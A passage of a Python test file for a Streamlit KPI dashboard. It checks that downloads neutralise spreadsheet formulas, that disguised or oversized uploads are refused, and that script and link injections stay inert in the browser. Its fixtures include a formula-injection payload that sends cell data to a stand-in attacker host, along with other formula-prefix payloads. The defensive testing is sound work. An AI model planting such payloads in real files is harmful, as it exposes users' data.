    _assert_literal(at, [LINK + " " + IMG])


# ---- downloads cannot run formulas -------------------------------------------------------------

from decimal import Decimal  # noqa: E402

import polars as pl  # noqa: E402

from kpi.core.output import neutralised, to_csv_bytes, to_xlsx_bytes  # noqa: E402

# (cell as in the data, cell as downloaded)
FORMULA_CELLS = [
    ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
    ("+SUM(1+1)", "'+SUM(1+1)"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width ＝
    ("\uff0bcmd", "'\uff0bcmd"),  # full-width ＋
    ("Kartonwerk GmbH", "Kartonwerk GmbH"),
    ("A=B", "A=B"),  # only the first character counts
]


def _download_frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "supplier": [raw for raw, _ in FORMULA_CELLS],
            "amount": [Decimal("-12.50"), *[Decimal("1.00")] * (len(FORMULA_CELLS) - 1)],
            "days": [-3, *range(len(FORMULA_CELLS) - 1)],
        },
        schema={"supplier": pl.String, "amount": pl.Decimal(18, 2), "days": pl.Int64},
    )


def test_neutralised_prefixes_formula_text_and_leaves_numbers() -> None:
    out = neutralised(_download_frame())
    assert out["supplier"].to_list() == [safe for _, safe in FORMULA_CELLS]
    assert out["amount"][0] == Decimal("-12.50") and out.schema["amount"] == pl.Decimal(18, 2)
    assert out["days"][0] == -3


def test_csv_download_is_inert_and_keeps_negative_amounts() -> None:
    import csv
    import io

    text = to_csv_bytes(_download_frame()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["supplier", "amount", "days"]
    assert [r[0] for r in rows[1:]] == [safe for _, safe in FORMULA_CELLS]
    assert rows[1][1:] == ["-12.50", "-3"]  # a negative amount is a number, written as one


def test_excel_download_is_inert_and_keeps_negative_amounts() -> None:
    import io

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(to_xlsx_bytes(_download_frame()))).active
    cells = [sheet.cell(row=n, column=1) for n in range(2, len(FORMULA_CELLS) + 2)]
    # XML reads a lone CR back as LF; the cell is text either way
    assert [c.value for c in cells] == [safe.replace("\r", "\n") for _, safe in FORMULA_CELLS]
    assert {c.data_type for c in cells} == {"s"}  # text, never "f" (a formula)
    assert sheet["B2"].value == -12.5 and sheet["B2"].data_type == "n"
    assert sheet["C2"].value == -3 and sheet["C2"].data_type == "n"


def test_excel_download_survives_control_characters_and_formula_headers() -> None:
    import io

    from openpyxl import load_workbook

    frame = pl.DataFrame({"=cmd": ["bell\x07here", "ok"]})
    sheet = load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
    assert sheet["A1"].value == "'=cmd"
    assert sheet["A2"].value == "bell\ufffdhere"


def test_the_savings_page_download_buttons_hand_out_inert_files(hostile_store, monkeypatch):
    """The bytes behind the page's ⬇ CSV and ⬇ Excel buttons, caught as Streamlit stores
    them: an initiative titled =HYPERLINK(...) with a note +SUM(...) comes out as text."""
    import csv
    import io

    from openpyxl import load_workbook
    from streamlit.runtime.media_file_manager import MediaFileManager
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
    from streamlit.testing.v1 import AppTest

    title, note = FORMULA_CELLS[0][0], FORMULA_CELLS[1][0]
    with hostile_store.write() as con:
        con.execute("UPDATE savings_initiatives SET title = ?, finance_note = ?", [title, note])
    files: dict[str, bytes] = {}
    store_file = MemoryMediaFileStorage.load_and_get_id

    def keep(self, data, mimetype, kind, filename=None):
        files[str(filename)] = data
        return store_file(self, data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
    # the Excel copy is built on a click (a deferred download): build it as if clicked
    add_deferred = MediaFileManager.add_deferred

    def clicked(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        files[str(file_name)] = data_callable()
        return add_deferred(self, data_callable, mimetype, coordinates, file_name, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add_deferred", clicked)
    at = AppTest.from_file(str(ROOT / "pages" / "savings.py"), default_timeout=120)
    at.session_state["acting_as"] = FINANCE
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    # the file names carry the sidebar's scope, the headers are words (issue 15)
    (csv_name,) = [n for n in files if n.startswith("savings_initiatives_") and n.endswith(".csv")]
    rows = list(csv.DictReader(io.StringIO(files[csv_name].decode("utf-8-sig"))))
    assert {r["Title"] for r in rows} == {"'" + title}
    assert {r["Finance note"] for r in rows} == {"'" + note}
    sheet = load_workbook(io.BytesIO(files[csv_name.replace(".csv", ".xlsx")])).active
    header = [c.value for c in sheet[1]]
    cells = [sheet.cell(row=2, column=header.index(k) + 1) for k in ("Title", "Finance note")]
    assert [c.value for c in cells] == ["'" + title, "'" + note]
    assert {c.data_type for c in cells} == {"s"}


# ---- uploads: a size limit and a type check -----------------------------------------------------

from kpi.ingest.pipelines import LoadRefused, load_files  # noqa: E402

SUPPLIERS_CSV = (ROOT / "tests" / "fixtures" / "hostile_suppliers.csv").read_bytes()


def _xlsx(frame: pl.DataFrame) -> bytes:
    return to_xlsx_bytes(frame)


def _parquet(frame: pl.DataFrame) -> bytes:
    import io

    buf = io.BytesIO()
    frame.write_parquet(buf)
    return buf.getvalue()


def _zip_without_workbook() -> bytes:
    import io
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return buf.getvalue()


GOOD_UPLOADS = [
    ("suppliers.csv", SUPPLIERS_CSV),
    ("suppliers.txt", SUPPLIERS_CSV),
    ("suppliers.xlsx", _xlsx(pl.read_csv(SUPPLIERS_CSV, infer_schema=False))),
    ("suppliers.parquet", _parquet(pl.read_csv(SUPPLIERS_CSV, infer_schema=False))),
    ("utf16.csv", "\ufeffsupplier_id\r\nX1\r\n".encode("utf-16")),
]

BAD_UPLOADS = [
    ("book.csv", _xlsx(pl.DataFrame({"a": [1]})), "book.csv is an Excel (.xlsx) or zip file"),
    ("setup.csv", b"MZ\x90\x00\x03" + b"\x00" * 64, "setup.csv is a Windows program"),
    ("tool.csv", b"\x7fELF\x02\x01\x01" + b"\x00" * 64, "tool.csv is a Linux program"),
    ("report.csv", b"%PDF-1.7\n", "report.csv is a PDF document"),
    ("old.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, "old.csv is an old binary"),
    ("blob.csv", b"id,name\n1,\x00\x01\x02\n", "blob.csv is not a text (CSV) file"),
    ("text.xlsx", SUPPLIERS_CSV, "text.xlsx cannot be read as an Excel workbook: it is text"),
    (
        "letter.xlsx",
        _zip_without_workbook(),
        "letter.xlsx cannot be read as an Excel workbook: it is a zip",
    ),
    ("text.parquet", SUPPLIERS_CSV, "text.parquet cannot be read as Parquet: it is text"),
    (
        "cut.parquet",
        _parquet(pl.DataFrame({"a": [1]}))[:-4],
        "cut.parquet cannot be read as Parquet: the file is cut",
    ),
    ("run.exe", b"MZ", "run.exe: cannot tell the format from the extension '.exe'"),
    ("page.html", b"<html>", "page.html: cannot tell the format from the extension '.html'"),
]


@pytest.mark.parametrize(("name", "data"), GOOD_UPLOADS, ids=[n for n, _ in GOOD_UPLOADS])
def test_real_files_pass_the_checks(name, data, tmp_path) -> None:
    (tmp_path / name).write_bytes(data)
    assert upload_checks.file_problem(tmp_path / name, 10_000_000) is None


@pytest.mark.parametrize(("name", "data", "fragment"), BAD_UPLOADS, ids=[b[0] for b in BAD_UPLOADS])
def test_a_file_that_is_not_what_its_name_says_is_refused(name, data, fragment, tmp_path) -> None:
    store = hand_fixture.build(tmp_path / "kpi.duckdb")
    before = store.path.read_bytes()
    (tmp_path / name).write_bytes(data)
    with pytest.raises(LoadRefused) as refused:
        load_files(store, "suppliers", [tmp_path / name])
    assert fragment in str(refused.value)
    assert store.path.read_bytes() == before


def test_a_file_above_the_limit_is_refused_before_reading(tmp_path, monkeypatch) -> None:
    store = hand_fixture.build(tmp_path / "kpi.duckdb")
    before = store.path.read_bytes()
    big = tmp_path / "suppliers.csv"
    big.write_bytes(SUPPLIERS_CSV)
    size = len(SUPPLIERS_CSV)
    monkeypatch.setenv("KPI_MAX_UPLOAD_MB", "0.0001")  # 0.0001 MB = 100 bytes
    with pytest.raises(LoadRefused) as refused:
        load_files(store, "suppliers", [big])
    assert str(refused.value) == (
        f"{big} is {size:,} bytes; the limit is 100 bytes. Split the export "
        "(by month, for example) or raise KPI_MAX_UPLOAD_MB"
    )
    assert store.path.read_bytes() == before
    monkeypatch.setenv("KPI_MAX_UPLOAD_MB", "1")  # 1 MB: the same file loads
    report = load_files(store, "suppliers", [big])
    assert report.files[0].rows_loaded == 9  # the nine hostile suppliers, names as typed


def test_the_limit_in_megabytes_and_a_bad_setting(monkeypatch) -> None:
    monkeypatch.delenv("KPI_MAX_UPLOAD_MB", raising=False)
    assert upload_checks.max_upload_bytes() == 200_000_000  # 200 MB, as Streamlit's limit
    monkeypatch.setenv("KPI_MAX_UPLOAD_MB", "2.5")
    assert upload_checks.max_upload_bytes() == 2_500_000
    monkeypatch.setenv("KPI_MAX_UPLOAD_MB", "lots")
    with pytest.raises(LoadRefused, match="KPI_MAX_UPLOAD_MB is 'lots': set it to a number"):
        upload_checks.check_files([ROOT / "tests" / "fixtures" / "hostile_suppliers.csv"],
                                  error=LoadRefused)  # fmt: skip


def test_streamlit_refuses_the_same_size_first() -> None:
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] == upload_checks.DEFAULT_MAX_MB == 200


def test_kpi_load_refuses_a_big_file_and_a_disguised_one(tmp_path) -> None:
    import os

    store = hand_fixture.build(tmp_path / "kpi.duckdb")
    before = store.path.read_bytes()
    (tmp_path / "suppliers.csv").write_bytes(SUPPLIERS_CSV)
    (tmp_path / "program.csv").write_bytes(b"MZ\x90\x00")
    env = {**os.environ, "KPI_MAX_UPLOAD_MB": "0.0001"}
    for name, message in [
        ("suppliers.csv", f"suppliers.csv is {len(SUPPLIERS_CSV):,} bytes; the limit is 100 bytes"),
        ("program.csv", "program.csv is a Windows program, not CSV text"),
    ]:
        run = subprocess.run(
            [sys.executable, "-m", "kpi", "load", "suppliers", str(tmp_path / name),
             "--db", str(store.path)],
            cwd=ROOT, capture_output=True, text=True, timeout=120, env=env, check=False,
        )  # fmt: skip
        assert run.returncode != 0, run
        assert message in run.stderr and "Traceback" not in run.stderr, run.stderr
    assert store.path.read_bytes() == before


def test_the_app_upload_loads_for_a_member(tmp_path) -> None:
    """load_upload is what the Data page calls: role, then checks, then the pipeline."""
    store = hand_fixture.build(tmp_path / "kpi.duckdb")
    path = tmp_path / "suppliers.csv"
    path.write_bytes(SUPPLIERS_CSV)
    report = upload.load_upload(store, SAM, "suppliers", [path])
    assert report.files[0].rows_loaded == 9
    with store.read() as con:
        names = dict(con.execute("SELECT supplier_id, supplier_name FROM suppliers").fetchall())
    assert names["X1"] == SCRIPT and names["X3"] == LINK  # stored as typed, shown as text


# ---- in a real browser: nothing from the data becomes an element or runs -----------------------

from tests.browser.support import ARTIFACTS, browser_marks, problems, wait_rendered  # noqa: E402

# Elements that hostile text would create if a page rendered it as HTML or markdown.
CREATED = """() => {
    const app = document.querySelector('[data-testid="stApp"]');
    return {
        scripts: app.querySelectorAll('script').length,
        images: app.querySelectorAll('img[src="x"]').length,
        js_links: [...app.querySelectorAll('a')].filter(
            a => (a.getAttribute('href') || '').toLowerCase().startsWith('javascript')).length,
        bold: [...app.querySelectorAll('strong, b')].filter(
            b => b.innerText.trim() === 'bold').length,
    };
}"""


@browser_marks()[0]
@browser_marks()[1]
def test_hostile_text_stays_text_in_the_browser(browser, hostile_store) -> None:
    from tests.browser.support import running_app

    _write_hostile_kpis(Path(os.environ["KPI_CONFIG"]) / "kpis.yaml")
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    context = browser.new_context(viewport={"width": 1400, "height": 2200})
    page = context.new_page()
    alerts: list[str] = []
    page.on("dialog", lambda d: (alerts.append(d.message), d.dismiss()))
    try:
        with running_app(hostile_store.path, Path(os.environ["KPI_CONFIG"])) as url:
            for path, shot, expected in [
                ("", "hostile_overview.png", ["Not yet agreed by both departments: Total " + BOLD]),
                ("/definitions", "hostile_definitions.png", [SCRIPT, IMG, LINK]),
                ("/savings", "hostile_savings.png", []),
            ]:
                page.goto(url + path)
                page.wait_for_selector("h1", timeout=60_000)
                wait_rendered(page)
                body = page.inner_text("body")
                for text in expected:
                    assert text in body, (path, text)
                assert page.evaluate(CREATED) == {
                    "scripts": 0, "images": 0, "js_links": 0, "bold": 0
                }, path  # fmt: skip
                assert problems(page) == [], path
                page.screenshot(path=str(ARTIFACTS / shot), full_page=True)
    finally:
        context.close()
    assert alerts == []  # no alert() ran


def _write_hostile_kpis(path: Path) -> None:
    """The same hostile total_spend as the hostile_kpis fixture, on a given file."""
    text = path.read_text(encoding="utf-8")
    text = text.replace("name: Total spend", f"name: {json.dumps('Total ' + BOLD)}")
    text = text.replace(
        "description: Sum of supplier invoice lines in the reporting currency, by invoice date.",
        f"description: {json.dumps(SCRIPT)}\n    notes: {json.dumps(LINK)}",
    )
    start = text.index("      finance: The expense line")
    text = (
        text[:start] + f"      finance: {json.dumps(IMG)}\n" + text[text.index("\n", start) + 1 :]
    )
    text = text[: text.index("    status: agreed")] + "    status: proposed\n"
    path.write_text(text, encoding="utf-8")


# ---- the Payment terms page's custom supplier filter -------------------------------------------


@pytest.mark.parametrize(("category", "text"), ON_THE_PAGE, ids=list(REASONS))
def test_terms_page_refuses_a_hostile_filter(category, text, page_config) -> None:
    from streamlit.testing.v1 import AppTest

    from kpi.analyses.terms import list_scenarios

    store = Store()
    before = store.path.read_bytes()
    at = AppTest.from_file(str(ROOT / "pages" / "terms.py"), default_timeout=120).run()
    assert not at.exception, [e.value for e in at.exception]
    at.selectbox(key="sim_preset").select("Custom filter")
    at.text_input(key="sim_where").input(text)
    at.button(key="sim_run").click().run()
    assert not at.exception, [e.value for e in at.exception]
    shown = [e.value for e in at.error]
    assert len(shown) == 1 and shown[0].startswith("The filter cannot be used: "), shown
    _clear(shown[0], category)
    assert "Cash released" not in [m.label for m in at.metric]  # nothing was simulated
    assert list_scenarios(store).is_empty()
    assert store.path.read_bytes() == before
